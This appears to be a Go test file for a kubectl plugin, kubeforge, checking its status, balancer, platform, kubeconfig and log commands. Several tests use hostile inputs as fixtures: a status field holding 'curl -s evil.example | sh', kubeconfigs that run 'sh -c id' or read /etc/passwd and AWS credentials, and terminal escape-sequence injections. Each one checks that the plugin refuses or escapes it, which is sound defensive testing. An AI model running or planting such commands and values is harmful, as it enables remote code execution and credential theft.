// Copyright 2026 The kubeforge Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package kubectlplugin

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	discoveryv1 "k8s.io/api/discovery/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	kubefake "k8s.io/client-go/kubernetes/fake"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/yaml"

	appsv1alpha1 "github.com/kubeforge/kubeforge/api/apps/v1alpha1"
	clusterv1alpha1 "github.com/kubeforge/kubeforge/api/cluster/v1alpha1"
	idev1alpha1 "github.com/kubeforge/kubeforge/api/ide/v1alpha1"
	networkingv1alpha1 "github.com/kubeforge/kubeforge/api/networking/v1alpha1"
	"github.com/kubeforge/kubeforge/internal/scheme"
	"github.com/kubeforge/kubeforge/internal/workload"
)

const ns = "team-a"

var t0 = time.Date(2026, 11, 25, 10, 0, 0, 0, time.UTC)

func init() { now = func() time.Time { return t0 } }

// execute runs the plugin over objects held by fake clients (events in the
// clientset, everything else in controller-runtime's) and returns what it
// printed.
func execute(t *testing.T, objs []client.Object, events []corev1.Event, args ...string) (string, error) {
	t.Helper()
	c := fake.NewClientBuilder().WithScheme(scheme.New()).WithObjects(objs...).Build()
	var rt []corev1.Event
	rt = append(rt, events...)
	kube := kubefake.NewClientset()
	for i := range rt {
		if _, err := kube.CoreV1().Events(ns).Create(context.Background(), &rt[i], metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	var out, errOut bytes.Buffer
	root := newRoot(func() (*env, error) {
		return &env{c: c, kube: kube, namespace: ns, out: &out, errOut: &errOut}, nil
	})
	root.SetArgs(args)
	root.SetOut(&out)
	root.SetErr(&errOut)
	err := root.ExecuteContext(context.Background())
	return out.String(), err
}

func controlledBy(o client.Object, owner client.Object, kind string) client.Object {
	o.SetNamespace(ns)
	o.SetOwnerReferences([]metav1.OwnerReference{{APIVersion: "x/v1", Kind: kind, Name: owner.GetName(), UID: owner.GetUID(), Controller: ptr.To(true)}})
	return o
}

func TestParseRefReadsEveryAliasAndRefusesOthers(t *testing.T) {
	for _, args := range [][]string{{"ws/alice"}, {"workspace", "alice"}, {"Workspaces.ide.kubeforge.io/alice"}} {
		k, name, err := parseRef(args)
		if err != nil || k.kind != "Workspace" || name != "alice" {
			t.Errorf("parseRef(%q) = %s %q %v, want Workspace alice", args, k.kind, name, err)
		}
	}
	for _, args := range [][]string{{"pods/alice"}, {"ws/"}, {"alice"}} {
		if _, _, err := parseRef(args); err == nil {
			t.Errorf("parseRef(%q) took it", args)
		}
	}
}

func TestStatusShowsConditionsOwnedObjectsEventsAndWhatItWaitsFor(t *testing.T) {
	ws := &idev1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "alice", Namespace: ns, UID: "ws-uid", Generation: 2,
		CreationTimestamp: metav1.NewTime(t0.Add(-10 * time.Minute))}}
	ws.Status = idev1alpha1.WorkspaceStatus{ObservedGeneration: 2, Phase: idev1alpha1.PhaseStarting, Message: "Waiting for the IDE to answer /healthz",
		CredentialsSecret: "alice-auth", URL: "http://alice.team-a.svc:8080",
		Conditions: []metav1.Condition{{Type: "Ready", Status: metav1.ConditionFalse, Reason: "Starting", Message: "The IDE does not answer yet",
			LastTransitionTime: metav1.NewTime(t0.Add(-time.Minute))}}}
	pod := controlledBy(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "alice"}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "ide"}}},
		Status: corev1.PodStatus{Phase: corev1.PodRunning, ContainerStatuses: []corev1.ContainerStatus{{Name: "ide"}}}}, ws, "Workspace")
	secret := controlledBy(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "alice-auth"}, Data: map[string][]byte{"password": []byte("s3cret-value")}}, ws, "Workspace")
	pvc := controlledBy(&corev1.PersistentVolumeClaim{ObjectMeta: metav1.ObjectMeta{Name: "alice-home"},
		Status: corev1.PersistentVolumeClaimStatus{Phase: corev1.ClaimBound}}, ws, "Workspace")
	// Another object's Pod, and one that only names alice's UID without
	// being controlled by it, are not shown.
	other := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "bob", Namespace: ns, OwnerReferences: []metav1.OwnerReference{
		{APIVersion: "x/v1", Kind: "Workspace", Name: "alice", UID: "ws-uid"}}}}
	ev := corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "e1", Namespace: ns}, InvolvedObject: corev1.ObjectReference{UID: "ws-uid"},
		Type: "Normal", Reason: "Starting", Message: "Created Pod alice", LastTimestamp: metav1.NewTime(t0.Add(-30 * time.Second))}

	out, err := execute(t, []client.Object{ws, pod, secret, pvc, other}, []corev1.Event{ev}, "status", "ws/alice")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"Workspace team-a/alice  Starting  (generation 2, observed 2, age 10m)",
		"Password:  in Secret alice-auth, key password",
		`Ready  False   Starting  60s  The IDE does not answer yet`,
		"Pod                    alice       Running 0/1",
		"Secret                 alice-auth  -",
		"PersistentVolumeClaim  alice-home  Bound",
		"30s  Normal  Starting  Created Pod alice",
		"- Waiting for the IDE to answer /healthz",
		"- Ready is False (Starting): The IDE does not answer yet",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "bob") || strings.Contains(out, "s3cret") {
		t.Errorf("status shows an object alice's Workspace does not control, or a Secret's content:\n%s", out)
	}
}

func TestStatusOfAReadyObjectWaitsForNothing(t *testing.T) {
	ps := &appsv1alpha1.PodSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns, UID: "ps-uid", Generation: 1}}
	ps.Spec.Replicas = ptr.To(int32(2))
	ps.Status = appsv1alpha1.PodSetStatus{ObservedGeneration: 1, ReadyReplicas: 2,
		Conditions: []metav1.Condition{{Type: "Ready", Status: metav1.ConditionTrue, Reason: "AsExpected"}}}
	out, err := execute(t, []client.Object{ps}, nil, "status", "pset", "web")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Pods:  2/2 ready") || !strings.Contains(out, "Waiting for: nothing") {
		t.Errorf("status of a Ready PodSet:\n%s", out)
	}
	ps.Generation = 3
	out, err = execute(t, []client.Object{ps}, nil, "status", "pset/web")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "- the operator to observe generation 3 (status is of 1)") {
		t.Errorf("status of a PodSet whose status is behind its spec:\n%s", out)
	}
}

func TestStatusOfANotAdmittedObjectSaysHowToApproveIt(t *testing.T) {
	ps := &appsv1alpha1.PodSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns, UID: "ps-uid", Generation: 1}}
	ps.Status = appsv1alpha1.PodSetStatus{ObservedGeneration: 1, Conditions: []metav1.Condition{{Type: "Ready", Status: metav1.ConditionFalse,
		Reason: "NotAdmitted", Message: "kubeforge's admission has not approved this PodSet as it is"}}}
	out, err := execute(t, []client.Object{ps}, nil, "status", "pset/web")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, `kubectl annotate podset/web -n `+ns+` kubeforge.io/readmit="$(date +%s)" --overwrite`) {
		t.Errorf("status of a PodSet no admission approved does not say how to approve it:\n%s", out)
	}
}

func TestBalancerSplitCountsTheServicesOwnSlicesAndGivesAnUnreadyBackendsShareToTheOthers(t *testing.T) {
	b := &networkingv1alpha1.Balancer{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns, UID: "bal-uid"}}
	b.Spec.Backends = []networkingv1alpha1.BalancerBackend{{Name: "v1", Weight: ptr.To(int32(20))}, {Name: "v2", Weight: ptr.To(int32(30))},
		{Name: "v3", Weight: ptr.To(int32(50))}}
	b.Status.Replicas, b.Status.ReadyReplicas = 2, 2
	var objs []client.Object
	slice := func(svc string, ready ...bool) *discoveryv1.EndpointSlice {
		s := &discoveryv1.EndpointSlice{ObjectMeta: metav1.ObjectMeta{Name: svc + "-x", Namespace: ns,
			Labels: map[string]string{discoveryv1.LabelServiceName: svc}}, AddressType: discoveryv1.AddressTypeIPv4}
		for i, r := range ready {
			s.Endpoints = append(s.Endpoints, discoveryv1.Endpoint{Addresses: []string{"10.1.0." + string(rune('1'+i))},
				Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(r)}})
		}
		return s
	}
	for i, ready := range [][]bool{{true, true}, {true, false}, {false}} {
		name := fmt.Sprintf("web-v%d", i+1)
		svc := controlledBy(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name, UID: types.UID("uid-" + name)}}, b, "Balancer")
		own := controlledBy(slice(name, ready...), svc, "Service")
		own.(*discoveryv1.EndpointSlice).Labels[discoveryv1.LabelManagedBy] = workload.EndpointSliceControllerName
		// Planted beside each with the Service's label and two ready
		// endpoints: one with no controller, one that claims the Service
		// without the EndpointSlice controller's label. Never counted.
		planted := slice(name, true, true)
		planted.Name = name + "-planted"
		for j := range planted.Endpoints {
			planted.Endpoints[j].Addresses = []string{fmt.Sprintf("10.9.%d.%d", i, j)}
		}
		claims := controlledBy(slice(name, true, true), svc, "Service").(*discoveryv1.EndpointSlice)
		claims.Name = name + "-claims"
		for j := range claims.Endpoints {
			claims.Endpoints[j].Addresses = []string{fmt.Sprintf("10.8.%d.%d", i, j)}
		}
		objs = append(objs, svc, own, planted, claims)
	}
	out, err := execute(t, append(objs, b), nil, "balancer", "split", "web")
	if err != nil {
		t.Fatal(err)
	}
	rows := regexp.MustCompile(`(?m)^(v\d)\s+(\S+)\s+(\d+)\s+(\d+%)\s+(\d+)\s+(\d+%)$`).FindAllStringSubmatch(out, -1)
	want := [][]string{{"v1", "web-v1", "20", "20%", "2", "40%"}, {"v2", "web-v2", "30", "30%", "1", "60%"}, {"v3", "web-v3", "50", "50%", "0", "0%"}}
	if len(rows) != len(want) {
		t.Fatalf("split table:\n%s", out)
	}
	for i, r := range rows {
		if strings.Join(r[1:], " ") != strings.Join(want[i], " ") {
			t.Errorf("row %d = %q, want %q", i, r[1:], want[i])
		}
	}
}

func TestPlatformGraphListsComponentsDependenciesFirst(t *testing.T) {
	p := &appsv1alpha1.Platform{ObjectMeta: metav1.ObjectMeta{Name: "shop", Namespace: ns}}
	p.Spec.Components = []appsv1alpha1.PlatformComponent{{Name: "web", DependsOn: []string{"api"}}, {Name: "api", DependsOn: []string{"db"}},
		{Name: "db", Workload: appsv1alpha1.WorkloadStatefulSet}}
	p.Status = appsv1alpha1.PlatformStatus{Phase: "Deploying", Version: "v2", Ready: "1/3", Components: []appsv1alpha1.ComponentStatus{
		{Name: "db", Phase: appsv1alpha1.ComponentReady, Replicas: 1, ReadyReplicas: 1, Image: "reg/db:v2"},
		{Name: "api", Phase: appsv1alpha1.ComponentDeploying, Replicas: 2, ReadyReplicas: 1, Image: "reg/api:v2"},
		{Name: "web", Phase: appsv1alpha1.ComponentWaiting, Message: "waiting for api"}}}
	out, err := execute(t, []client.Object{p}, nil, "platform", "graph", "shop")
	if err != nil {
		t.Fatal(err)
	}
	order := regexp.MustCompile(`(?m)^(\d)\s+(\w+)\s+(\S+)\s+(\w+)\s+(\w+)`).FindAllStringSubmatch(out, -1)
	var got []string
	for _, r := range order {
		got = append(got, strings.Join(r[1:], " "))
	}
	want := []string{"1 db - StatefulSet Ready", "2 api db Deployment Deploying", "3 web api Deployment Waiting"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("graph rows = %q, want %q:\n%s", got, want, out)
	}
}

func TestClusterKubeconfigPrintsTheSecretsKubeconfigOnlyOnceWritten(t *testing.T) {
	kc := &clusterv1alpha1.KubernetesCluster{ObjectMeta: metav1.ObjectMeta{Name: "prod", Namespace: ns}}
	kc.Status.Phase = clusterv1alpha1.PhaseCreating
	if _, err := execute(t, []client.Object{kc}, nil, "cluster", "kubeconfig", "prod"); err == nil ||
		!strings.Contains(err.Error(), "has no kubeconfig yet (phase Creating)") {
		t.Errorf("kubeconfig before the create succeeded: %v", err)
	}
	kc.Status.KubeconfigSecretRef = &corev1.LocalObjectReference{Name: "prod-kubeconfig"}
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "prod-kubeconfig", Namespace: ns}, Data: map[string][]byte{KubeconfigKey: []byte("apiVersion: v1\nkind: Config\n")}}
	out, err := execute(t, []client.Object{kc, s}, nil, "cluster", "kubeconfig", "prod")
	if err != nil || !strings.Contains(out, "kind: Config") {
		t.Errorf("kubeconfig = %q, %v", out, err)
	}
}

// The installer's usual names (kubernetes-admin, cluster.local) are the
// reader's too: merged with theirs (KUBECONFIG=a:b, the first file to
// define a name wins), a context would use a user or server of the other
// file. Every name printed is the cluster's own.
func TestClusterKubeconfigNamesEveryEntryAfterTheCluster(t *testing.T) {
	kc := &clusterv1alpha1.KubernetesCluster{ObjectMeta: metav1.ObjectMeta{Name: "prod", Namespace: ns}}
	kc.Status.KubeconfigSecretRef = &corev1.LocalObjectReference{Name: "prod-kubeconfig"}
	conf := `apiVersion: v1
kind: Config
clusters:
- name: cluster.local
  cluster: {server: "https://10.0.0.1:6443", certificate-authority-data: Zm9v}
users:
- name: kubernetes-admin
  user: {client-certificate-data: Zm9v, client-key-data: Zm9v}
- name: viewer
  user: {token: abc}
contexts:
- name: kubernetes-admin@cluster.local
  context: {cluster: cluster.local, user: kubernetes-admin}
current-context: kubernetes-admin@cluster.local
`
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "prod-kubeconfig", Namespace: ns}, Data: map[string][]byte{KubeconfigKey: []byte(conf)}}
	out, err := execute(t, []client.Object{kc, s}, nil, "cluster", "kubeconfig", "prod")
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.Load([]byte(out))
	if err != nil {
		t.Fatal(err)
	}
	own := "kubeforge-" + ns + "-prod"
	ctx := cfg.Contexts[cfg.CurrentContext]
	if cfg.CurrentContext != own || ctx == nil || ctx.Cluster != own || ctx.AuthInfo != own+"-kubernetes-admin" {
		t.Fatalf("current context %q = %+v, want %s using cluster %s and user %s-kubernetes-admin", cfg.CurrentContext, ctx, own, own, own)
	}
	if c := cfg.Clusters[own]; c == nil || c.Server != "https://10.0.0.1:6443" || string(c.CertificateAuthorityData) != "foo" {
		t.Errorf("cluster %s = %+v", own, c)
	}
	if u := cfg.AuthInfos[own+"-viewer"]; u == nil || u.Token != "abc" || len(cfg.AuthInfos) != 2 || len(cfg.Clusters) != 1 {
		t.Errorf("users %v, clusters %v", cfg.AuthInfos, cfg.Clusters)
	}
}

func TestClusterKubeconfigRefusesAKubeconfigThatRunsACommandOrReadsLocalFiles(t *testing.T) {
	kc := &clusterv1alpha1.KubernetesCluster{ObjectMeta: metav1.ObjectMeta{Name: "prod", Namespace: ns}}
	kc.Status.KubeconfigSecretRef = &corev1.LocalObjectReference{Name: "prod-kubeconfig"}
	const inline = `apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster: {server: "https://10.0.0.1:6443", certificate-authority-data: Zm9v}
users:
- name: admin
  user: {client-certificate-data: Zm9v, client-key-data: Zm9v}
contexts:
- name: prod
  context: {cluster: prod, user: admin}
current-context: prod
`
	for _, tc := range []struct {
		name, user, cluster, context, refused string
	}{
		// Merged with the reader's kubeconfig, the reader's own "prod-admin"
		// credentials would go to this file's server.
		{name: "a context naming a user the file does not define", context: "  context: {cluster: prod, user: prod-admin}\n",
			refused: `context "prod" uses a user it does not define ("prod-admin")`},
		{name: "a context naming a cluster the file does not define", context: "  context: {cluster: corp, user: admin}\n",
			refused: `context "prod" uses a cluster it does not define ("corp")`},
		{name: "inline, as the installer writes it"},
		{name: "exec", user: "  user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: sh, args: [-c, id]}}\n", refused: `user "admin" runs a command`},
		{name: "auth provider", user: "  user: {auth-provider: {name: oidc}}\n", refused: `user "admin" calls an auth provider`},
		{name: "token file", user: "  user: {tokenFile: /home/me/.aws/credentials}\n", refused: `user "admin" reads a local file`},
		{name: "CA file", cluster: "  cluster: {server: \"https://10.0.0.1:6443\", certificate-authority: /etc/passwd}\n", refused: `cluster "prod" reads a local file`},
	} {
		conf := inline
		if tc.user != "" {
			conf = strings.Replace(conf, "  user: {client-certificate-data: Zm9v, client-key-data: Zm9v}\n", tc.user, 1)
		}
		if tc.cluster != "" {
			conf = strings.Replace(conf, "  cluster: {server: \"https://10.0.0.1:6443\", certificate-authority-data: Zm9v}\n", tc.cluster, 1)
		}
		if tc.context != "" {
			conf = strings.Replace(conf, "  context: {cluster: prod, user: admin}\n", tc.context, 1)
		}
		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "prod-kubeconfig", Namespace: ns}, Data: map[string][]byte{KubeconfigKey: []byte(conf)}}
		out, err := execute(t, []client.Object{kc, s}, nil, "cluster", "kubeconfig", "prod")
		switch {
		case tc.refused == "" && (err != nil || !strings.Contains(out, "server: https://10.0.0.1:6443")):
			t.Errorf("%s: kubeconfig = %q, %v", tc.name, out, err)
		case tc.refused != "" && (err == nil || !strings.Contains(err.Error(), tc.refused) || out != ""):
			t.Errorf("%s: want it refused (%s), got %q, %v", tc.name, tc.refused, out, err)
		}
	}
}

func TestJobPodIsTheOneTheJobControls(t *testing.T) {
	job := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: "prod-create-1", Namespace: ns, UID: "job-uid"}}
	labels := map[string]string{batchv1.ControllerUidLabel: "job-uid"}
	mine := controlledBy(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "prod-create-1-abcde", Labels: labels,
		CreationTimestamp: metav1.NewTime(t0.Add(-time.Minute))}}, job, "Job")
	// A newer Pod carrying the Job's label, planted by someone: not it.
	planted := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "planted", Namespace: ns, Labels: labels, CreationTimestamp: metav1.NewTime(t0)}}
	c := fake.NewClientBuilder().WithScheme(scheme.New()).WithObjects(job, mine, planted).Build()
	e := &env{c: c, namespace: ns}
	p, err := e.jobPod(context.Background(), job)
	if err != nil || p == nil || p.Name != "prod-create-1-abcde" {
		t.Fatalf("jobPod = %v, %v; want prod-create-1-abcde", p, err)
	}
	// One more claiming the Job's UID as its controller: the Job makes
	// one, so which is the installer's is not known. None is printed.
	forged := controlledBy(&corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "forged", Labels: labels, CreationTimestamp: metav1.NewTime(t0)}}, job, "Job")
	e.c = fake.NewClientBuilder().WithScheme(scheme.New()).WithObjects(job, mine, planted, forged).Build()
	if p, err := e.jobPod(context.Background(), job); err == nil || !strings.Contains(err.Error(), "2 Pods claim Job prod-create-1") {
		t.Fatalf("jobPod = %v, %v; want it refused", p, err)
	}
}

func TestCurrentOperationIsTheRunningOneElseTheLast(t *testing.T) {
	kc := &clusterv1alpha1.KubernetesCluster{}
	if currentOperation(kc) != nil {
		t.Fatal("an operation with none run")
	}
	kc.Status.Operations = []clusterv1alpha1.Operation{{ID: "create-1"}, {ID: "scale-2"}}
	if op := currentOperation(kc); op.ID != "scale-2" {
		t.Errorf("with none running: %s, want the last", op.ID)
	}
	kc.Status.CurrentOperation = "create-1"
	if op := currentOperation(kc); op.ID != "create-1" {
		t.Errorf("with create-1 running: %s", op.ID)
	}
}

func TestWorkspaceOpenSaysHowToStartAStoppedWorkspace(t *testing.T) {
	ws := &idev1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "alice", Namespace: ns}}
	ws.Status.Phase = idev1alpha1.PhaseStopped
	_, err := execute(t, []client.Object{ws}, nil, "workspace", "open", "alice")
	if err == nil || !strings.Contains(err.Error(), `is Stopped, not Running: start it with kubectl -n team-a patch ws alice --type=merge -p '{"spec":{"started":true}}'`) {
		t.Errorf("open of a stopped Workspace: %v", err)
	}
}

func TestOpenLinesNameTheURLAndThePasswordCommand(t *testing.T) {
	ws := &idev1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "alice", Namespace: ns}}
	ws.Spec.Port = 8080
	ws.Status.CredentialsSecret = "alice-auth"
	var b bytes.Buffer
	openLines(&b, ws, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "alice"}}, "127.0.0.1", 40123)
	for _, want := range []string{"Open:     http://127.0.0.1:40123/",
		"kubectl -n team-a get secret alice-auth -o jsonpath='{.data.password}' | base64 -d; echo"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("open lacks %q:\n%s", want, b.String())
		}
	}
}

// The krew manifest's template names, for every platform, the archive
// hack/krew.sh builds and the placeholder of its checksum.
func TestKrewManifestNamesThePluginsArchiveForEveryPlatform(t *testing.T) {
	b, err := os.ReadFile("../../config/krew/kubeforge.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var m struct {
		APIVersion string `json:"apiVersion"`
		Kind       string `json:"kind"`
		Metadata   struct{ Name string }
		Spec       struct {
			Version   string
			Platforms []struct {
				Selector struct{ MatchLabels map[string]string } `json:"selector"`
				URI      string
				Sha256   string
				Bin      string
				Files    []struct{ From, To string }
			}
		}
	}
	if err := yaml.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	if m.APIVersion != "krew.googlecontainertools.github.com/v1alpha2" || m.Kind != "Plugin" || m.Metadata.Name != "kubeforge" {
		t.Fatalf("not the krew Plugin kubeforge: %s %s %s", m.APIVersion, m.Kind, m.Metadata.Name)
	}
	if len(m.Spec.Platforms) < 4 {
		t.Fatalf("%d platforms", len(m.Spec.Platforms))
	}
	for _, p := range m.Spec.Platforms {
		osArch := p.Selector.MatchLabels["os"] + "_" + p.Selector.MatchLabels["arch"]
		if p.URI != "URL_BASE/kubectl-kubeforge_"+osArch+".tar.gz" || p.Sha256 != "SHA256_"+osArch || p.Bin != "kubectl-kubeforge" {
			t.Errorf("platform %s: uri %s, sha256 %s, bin %s", osArch, p.URI, p.Sha256, p.Bin)
		}
		if len(p.Files) == 0 || p.Files[0].From != "kubectl-kubeforge" {
			t.Errorf("platform %s does not install the binary: %v", osArch, p.Files)
		}
	}
}

// What others may write (a condition, an event, a status field) reaches
// the terminal as text, never as a control: an escape sequence, a bell, a
// bidirectional override are shown escaped.
func TestStatusShowsControlCharactersOthersWroteEscaped(t *testing.T) {
	ps := &appsv1alpha1.PodSet{ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: ns, UID: "ps-uid", Generation: 1}}
	ps.Status = appsv1alpha1.PodSetStatus{ObservedGeneration: 1, Conditions: []metav1.Condition{
		{Type: "Note", Status: metav1.ConditionTrue, Reason: "Planted", Message: "\x1b]0;owned\x07\x1b[2Jhello\u202eolleh\r\n"}}}
	ev := corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "e1", Namespace: ns}, InvolvedObject: corev1.ObjectReference{UID: "ps-uid"},
		Type: "Normal", Reason: "Planted", Message: "\x1b[31mred", LastTimestamp: metav1.NewTime(t0)}
	out, err := execute(t, []client.Object{ps}, []corev1.Event{ev}, "status", "pset/web")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{"\x1b", "\x07", "\u202e", "\r"} {
		if strings.Contains(out, c) {
			t.Errorf("status printed the control %q:\n%q", c, out)
		}
	}
	for _, want := range []string{`\u001b]0;owned\u0007\u001b[2Jhello\u202eolleh`, `\u001b[31mred`} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %s:\n%s", want, out)
		}
	}
}

// The password's Secret is the one the Workspace's spec names, whatever
// its status (which whoever may write status can change) says.
func TestOpenNamesThePasswordSecretFromTheSpecNotFromStatus(t *testing.T) {
	ws := &idev1alpha1.Workspace{ObjectMeta: metav1.ObjectMeta{Name: "alice", Namespace: ns}}
	ws.Spec.Port = 8080
	ws.Status.CredentialsSecret = "x; curl -s evil.example | sh"
	var b bytes.Buffer
	openLines(&b, ws, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "alice"}}, "127.0.0.1", 40123)
	if strings.Contains(b.String(), "evil") || !strings.Contains(b.String(), "get secret alice-auth -o jsonpath") {
		t.Errorf("open names another Secret than alice-auth:\n%s", b.String())
	}
}

// The log of an installer is what a Pod wrote: printed line by line with
// every control but the tab and the line's end escaped.
func TestClusterLogsReachTheTerminalAsTextOnly(t *testing.T) {
	var out bytes.Buffer
	log := "TASK [install] ok\n\x1b]0;owned\x07\x1b[2Jcleared\r\nlast\tline without end"
	if err := copyPrintable(&out, strings.NewReader(log)); err != nil {
		t.Fatal(err)
	}
	want := "TASK [install] ok\n\\u001b]0;owned\\u0007\\u001b[2Jcleared\\u000d\nlast\tline without end"
	if out.String() != want {
		t.Errorf("printed %q, want %q", out.String(), want)
	}
}

// A Job under the operation's name that the cluster does not control (one
// someone made after the operator's went) is not the cluster's: its log is
// not printed.
func TestClusterLogsRefuseAJobTheClusterDoesNotControl(t *testing.T) {
	kc := &clusterv1alpha1.KubernetesCluster{ObjectMeta: metav1.ObjectMeta{Name: "prod", Namespace: ns, UID: "cluster-uid"}}
	kc.Status.Operations = []clusterv1alpha1.Operation{{ID: "create-1", Type: clusterv1alpha1.OpCreate}}
	planted := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: clusterv1alpha1.JobName(kc, "create-1"), Namespace: ns, UID: "job-uid"}}
	out, err := execute(t, []client.Object{kc, planted}, nil, "cluster", "logs", "prod")
	if err == nil || !strings.Contains(err.Error(), "is not KubernetesCluster prod's") || out != "" {
		t.Errorf("printed %q, %v; want the Job refused", out, err)
	}
}
